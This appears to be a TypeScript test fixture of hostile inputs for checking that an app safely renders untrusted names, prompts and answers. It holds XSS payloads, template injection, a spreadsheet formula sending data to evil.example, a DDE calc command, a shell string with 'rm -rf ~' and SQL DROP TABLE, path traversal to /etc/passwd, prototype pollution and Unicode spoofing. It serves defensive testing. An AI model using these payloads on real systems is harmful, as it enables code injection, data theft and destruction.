// What strangers write where a name, a prompt or an answer is expected. Nothing of it may run, load,
// reorder what is read or break out of where it stands; `pwned` and `polluted` tell when it did.

const run = 'window.pwned=1'
const evil = 'https://evil.example'
const all = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, index) => String.fromCharCode(from + index)).join('')

/** By what each tries. */
export const texts: Record<string, string> = {
  script: `<script>${run}</script><script src="${evil}/x.js"></script>`,
  handlers: `<img src="${evil}/x.png" onerror="${run}"><svg onload="${run}"><body onload="${run}">`,
  attribute: `" onmouseover="${run}" autofocus onfocus="${run}" x="' onclick='${run}' y='`,
  frames: `<iframe srcdoc="<script>parent.${run}</script>"></iframe><object data="${evil}"></object><embed src="${evil}">`,
  head: `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}"><link rel="stylesheet" href="${evil}/x.css">`,
  form: `<form action="${evil}"><input name="key"><button autofocus>Connect</button></form><dialog open>Sign in</dialog>`,
  closers:
    '</title></style></script></textarea></pre></bdi></xmp></noscript></template>--> ]]> */ <!--',
  style:
    '</style><style>*{display:none!important}</style><p style="position:fixed;inset:0;background:url(//evil.example)">',
  foreign: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  entities: `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62; &quot;&amp;&apos; &nbsp;&zwj;`,
  templates: `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}} [[${run}]]`,
  addresses: [
    `javascript:${run}`,
    `JaVa\tScRiPt:${run}`,
    `data:text/html,<script>${run}</script>`,
    `vbscript:${run}`,
    `//evil.example`,
    `${evil}/?x=<script>`,
  ].join(' '),
  markdown: [
    '# A **heading** of ~~strangers~~',
    `![track](${evil}/t.png) ![inline](data:image/svg+xml,<svg/onload=${run}>) ![][ref]`,
    `[go](javascript:${run}) [go](<java\tscript:${run}>) [go](data:text/html,${run}) [go](//evil.example) [go](/api/v1.3/analyze/tasks)`,
    `[https://bank.example](${evil}/login) <${evil}/auto> <javascript:${run}> www.evil.example`,
    `[ref]: ${evil}/ref.png "title\\" onerror=${run}"`,
    `<details open ontoggle=${run}><summary>More</summary></details>`,
    '| a | b |\n| - | - |\n| <b>x</b> | `</code>` |',
    '- [x] done\n- [ ] open\n\n[^1]\n\n[^1]: <script>1</script>',
    `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  ].join('\n\n'),
  'markdown stars': `# Title\n\n${'*'.repeat(4000)}`,
  'markdown quotes': `# Title\n\n${'>'.repeat(3000)}`,
  'markdown brackets': `# Title\n\n${'['.repeat(3000)}${'](x)'.repeat(500)}`,
  'markdown emphasis': `# Title\n\n${'*a_ '.repeat(1000)}`,
  'markdown lists': `# Title\n\n${'- '.repeat(1000)}deep`,
  'markdown table': `# Title\n\n|${' a |'.repeat(300)}\n|${' - |'.repeat(300)}\n|${' b |'.repeat(300)}`,
  'markdown ticks': `# Title\n\n${'`'.repeat(3000)} # x`,
  formula: '=HYPERLINK("https://evil.example?k="&A1,"Open")',
  'formula command': "+cmd|'/C calc'!A0",
  'formula hidden': '\t=1+1\r\n "=2+2"\n＝３\n@SUM(1)\n-2+3\u0000=4',
  shell: `'; rm -rf ~ #$(touch ~/pwned)\`id\`"; DROP TABLE tasks; --\n!!\nEOF\n%PATH% \\`,
  code: `"""\n'''\n*/ // # {-\n\\u0022; process.exit(1) //\u2028 ${'$'}{process.exit(1)} \\`,
  subtitles:
    'NOTE\n\n1\n00:00:00,000 --> 00:00:01,000\n<v Evil>x</v> --> {\\an8}\n\nSTYLE\n::cue { color: red }',
  'edit list':
    'TITLE: EVIL\n001  AX       V     C        00:00:00:00 01:00:00:00\n* FROM CLIP NAME: EVIL\r\nM2',
  bidi: 'film\u202Egpj.exe \u2066\u2067\u2068 never closed \u202Dand \u202Bmore',
  'right to left': 'مرحبا بالعالم 123 – <b>שלום</b> (1/2) 2026-11-23',
  invisible: 'pay\u200Bpal\uFEFF\u2060\u00AD\u034F\u115F\u3164\uFFA0\u{E0041}\u{E007F}!',
  control: `bell\u0007 ${all(1, 31)}\u007F${all(128, 159)} \u001B[31mred\u001B]0;title\u0007`,
  nul: 'before\u0000after',
  surrogates: 'half \uD83D here, \uDE00 there, \uDE00\uD83D turned round',
  combining: `Z${'\u0300\u0301\u0315\u0489'.repeat(500)}algo`,
  joined: '👩‍👩‍👧‍👦🏳️‍⚧️👨🏽‍🚀 e\u0301 ﷽ 𒐫 ﬁ İıſK',
  breaks: `first${'\n'.repeat(1000)}last\r\r\n\u2028\u2029\u0085\u000B\u000C`,
  'one word': 'x'.repeat(4000),
  prototype: '__proto__',
  constructor: 'constructor',
  'to string': 'toString',
  'path up': '../../../../etc/passwd\\..\\..\\windows%2e%2e%2f%00.mp4',
  'file names': 'CON. ',
  secrets: 'x-api-key: tlk_0123456789abcdef Authorization: Bearer hunter2-hunter2 password=hunter2',
  'torn json': '{"scenes":[{"start_time":1,"end_time":2,"metadata":{"a":"b',
  'json text': '{"__proto__":{"polluted":1},"a":[1e400,-0,9007199254740993]}',
  fence: '```json\n{"a": "</script>"}\n```',
  space: ' \t\n\u00A0\u3000 ',
  empty: '',
  zero: '0',
}
